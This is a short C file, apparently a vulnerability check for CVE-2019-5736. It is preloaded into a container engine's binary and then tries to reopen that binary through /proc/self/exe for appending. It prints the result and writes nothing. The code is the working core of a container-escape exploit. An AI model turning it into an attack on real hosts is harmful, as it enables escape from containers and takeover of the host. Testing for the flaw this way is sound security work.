/*
 * CVE-2019-5736, to be preloaded (ld.so(8)) into the engine's own program: keeps /proc/self/exe and
 * becomes a shell, so that the program runs no more (ETXTBSY), which opens the file for appending.
 * Nothing is written; what came of it is printed.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

static const char attack[] =
	"i=0; while [ $i -lt 100 ]; do i=$((i+1)); said=$( (exec >>/proc/self/fd/9) 2>&1) && "
	"{ echo succeeded; exit; }; case $said in *busy*) sleep 0.1;; *) break;; esac; done; echo \"$said\"";

static void __attribute__((constructor)) overwrite(void)
{
	int fd = open("/proc/self/exe", O_PATH | O_CLOEXEC);

	if (fd < 0 || dup2(fd, 9) < 0)
		_exit(2);
	unsetenv("LD_PRELOAD");
	execl("/bin/sh", "sh", "-c", attack, NULL);
	_exit(2);
}
